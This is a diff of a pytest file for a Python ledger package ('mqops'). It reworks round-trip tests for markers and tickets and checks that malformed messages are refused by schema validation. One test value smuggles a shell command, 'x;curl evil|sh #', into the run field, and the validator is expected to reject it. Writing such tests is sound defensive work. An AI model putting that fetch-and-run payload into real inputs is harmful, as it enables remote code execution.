@@ -13,10 +13,10 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from mqops.act.identity import PlanIdentity
 from mqops.errors import LakeError, LedgerBroken
-from mqops.ledger.marker import Marker, Ticket, is_ticket
-from mqops.store.ledger import LedgerFile
+from mqops.ledger.core.identity import PlanIdentity
+from mqops.ledger.core.marker import Marker, Ticket, unpack
+from mqops.ledger.file import LedgerFile
 
 PLAN = PlanIdentity(run="run 1", digest="ab" * 32)
 
@@ -149,17 +149,19 @@ def test_D11_several_processes_write_one_unbroken_ledger(tmp_path):
     assert sorted(entry["first"] for entry in ledger(tmp_path).entries()) == list(range(50))
 
 
-texts = st.text(max_size=20)
+texts = st.text(st.characters(exclude_categories=["Cs"]), max_size=20)
+hexes = st.binary(max_size=24).map(bytes.hex)
+numbers = st.integers(0, 2**53 - 1)
 
 
 @settings(deadline=None)
 @given(
     rows=st.lists(
-        st.tuples(st.integers(0), *[texts] * 6, st.none() | st.integers(0, 9999), texts),
+        st.tuples(numbers, texts, hexes, *[texts] * 4, st.none() | st.integers(0, 9999), texts),
         max_size=3,
     ),
-    absent=st.lists(st.integers(0), max_size=3),
-    run=texts,
+    absent=st.lists(numbers, max_size=3),
+    run=st.from_regex(r"[A-Za-z0-9_][A-Za-z0-9._+=:@-]{0,199}", fullmatch=True),
 )
 def test_a_marker_comes_back_from_its_message_as_it_was(rows, absent, run):
     original = Marker(
@@ -167,31 +169,53 @@ def test_a_marker_comes_back_from_its_message_as_it_was(rows, absent, run):
         **{"first": 4, "next": 9, "last": True, "rows": tuple(rows), "absent": tuple(absent)},
     )
     assert Marker.unpack(original.pack()) == original
-    assert not is_ticket(original.pack())
 
 
 def test_a_ticket_comes_back_from_its_message_as_it_was():
     ticket = Ticket(run="r", plan="p", lane=7, next=400)
     assert Ticket.unpack(ticket.pack()) == ticket
-    assert is_ticket(ticket.pack())
+
+
+GOOD = marker(0, plan=PlanIdentity(run="r", digest="p"))
+TICKET = Ticket(run="r", plan="p", lane=0, next=3)
+
+
+def changed(message: Marker | Ticket, **members: object) -> bytes:
+    return json.dumps({**json.loads(message.pack()), **members}).encode()
 
 
 @pytest.mark.parametrize(
     ("body", "text"),
     [
-        (b"", "not JSON"),
-        (b"[]", "not a JSON object"),
-        (b"{}", "not a marker: KeyError"),
-        (json.dumps({**marker(0).to_json(), "v": 2}).encode(), "version 2, kind 'acted': made by another mqops"),
-        (json.dumps({**marker(0).to_json(), "rows": [[1, 2]]}).encode(), "not a marker: ValueError"),
+        (b"", "body: json_invalid"),
+        (b"[]", "body: dict_type"),
+        (b"{}", "body: union_tag_not_found"),
+        (b"\xff", "body: json_invalid"),
+        (b'{"unit":' + b"[" * 100_000, "body: json_invalid"),  # nested
+        (changed(GOOD, v=2), "v: literal_error"),
+        (changed(GOOD, rows=[[1, 2]]), "rows: string_type"),
+        (changed(GOOD, left=[]), "left: dict_type"),
+        (changed(GOOD, lane=float("inf")), "lane: int_type"),
+        (changed(GOOD, lane=True), "lane: int_type"),
+        (changed(GOOD, next=-1), "next: greater_than_equal"),
+        (changed(GOOD, first=2**53), "first: less_than_equal"),
+        (changed(GOOD, unit="x" * 48), "unit: string_pattern_mismatch"),
+        (changed(GOOD, run="x;curl evil|sh #"), "run: value_error"),
+        (changed(GOOD, run=".."), "run: value_error"),
+        (changed(GOOD, put={"user": "alice"}), "body: extra_forbidden"),  # who put it is not for the message to say
+        (changed(TICKET, next=1e999), "next: int_type"),
+        (changed(TICKET, lane="x"), "lane: int_type"),
+        (changed(TICKET, next=10**400), "next: less_than_equal"),
     ],
 )
-def test_a_message_that_is_no_marker_is_refused(body, text):
-    with pytest.raises(LedgerBroken, match=text):
-        Marker.unpack(body)
+def test_a_message_that_does_not_fit_the_schema_is_refused(body, text):
+    with pytest.raises(LedgerBroken, match=f"is neither marker nor ticket: {text}"):
+        unpack(body)
 
 
-@pytest.mark.parametrize("body", [b"", b"{}", b"[]", b'{"run":"r","plan":"p","lane":"x","next":0}'])
-def test_a_message_that_is_no_ticket_is_refused(body):
-    with pytest.raises(LedgerBroken, match="not a ticket"):
-        Ticket.unpack(body)
+def test_a_marker_is_not_a_ticket():
+    assert (unpack(GOOD.pack()), unpack(TICKET.pack())) == (GOOD, TICKET)
+    with pytest.raises(LedgerBroken, match="is a ticket, not a marker"):
+        Marker.unpack(TICKET.pack())
+    with pytest.raises(LedgerBroken, match="is a marker, not a ticket"):
+        Ticket.unpack(GOOD.pack())
